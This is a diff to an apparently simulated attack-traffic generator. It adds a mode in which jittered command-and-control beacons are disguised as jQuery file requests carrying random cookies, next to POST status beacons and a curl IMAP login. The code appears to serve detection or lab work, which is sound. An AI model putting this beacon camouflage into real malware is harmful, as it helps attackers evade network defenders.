@@ -48,14 +48,15 @@ def beacon(stage, step):
         "lan",
         f"curl -s -m 8 --interface {step.source} -u '{user}:{word}' 'imap://{MAIL}/INBOX;MAILINDEX=1'; "
         f"PYTHONPATH={sys.path[0]} exec /usr/bin/python3 -m attacks_inside beacon {stage.folder}/clock.json "
-        f"{step.source} {step.domain} {step.every} {step.jitter} {step.until}",
+        f"{step.source} {step.domain} {step.every} {step.jitter} {step.until} {'get' if step.gets else 'post'}",
         3000,
         step.name,
     )
 
 
-async def beats(clock, source, domain, every, jitter, until):
-    """A request at each interval, give or take; the name is asked for again each time its answer has run out."""
+async def beats(clock, source, domain, every, jitter, until, method):
+    """A request at each interval, give or take, as a form or as a script's file with a cookie; the name is asked for
+    again each time its answer has run out."""
     rng, asked, address = random.Random(source), -1e9, None
     browser = None
     while clock.now() < until:
@@ -69,9 +70,12 @@ async def beats(clock, source, domain, every, jitter, until):
                 server=address,
                 port=80,
             )
-            await browser.ask(
-                f"/v2/status?id={source.replace('.', '')}", "POST", body=rng.randbytes(48).hex().encode()
-            )
+            if method == "get":
+                await browser.ask("/jquery-3.3.1.min.js", Cookie="s=" + rng.randbytes(40).hex())
+            else:
+                await browser.ask(
+                    f"/v2/status?id={source.replace('.', '')}", "POST", body=rng.randbytes(48).hex().encode()
+                )
             browser.close()
         await clock.pause(every * (1 + rng.uniform(-jitter, jitter)))
 
@@ -181,6 +185,7 @@ def steps(rng, sources, outsiders, world):
         jitter=rng.uniform(0.05, 0.2),
         until=begin + hour(5, 8),
         victim=victim,
+        gets=False,
     )
     seen.answer["callback"] = outsiders["c2"]
     zone = f"{rng.choice('tuv')}.{rng.choice(('kho-anh', 'dich-vu-so', 'tin-moi'))}.example"
@@ -225,8 +230,8 @@ def steps(rng, sources, outsiders, world):
 
 if __name__ == "__main__":
     if sys.argv[1] == "beacon":
-        path, source, domain, every, jitter, until = sys.argv[2:]
-        asyncio.run(beats(Clock.load(path), source, domain, float(every), float(jitter), float(until)))
+        path, source, domain, every, jitter, until, method = sys.argv[2:]
+        asyncio.run(beats(Clock.load(path), source, domain, float(every), float(jitter), float(until), method))
     else:
         with contextlib.suppress(OSError):
             asyncio.run(pages(*sys.argv[2:]))
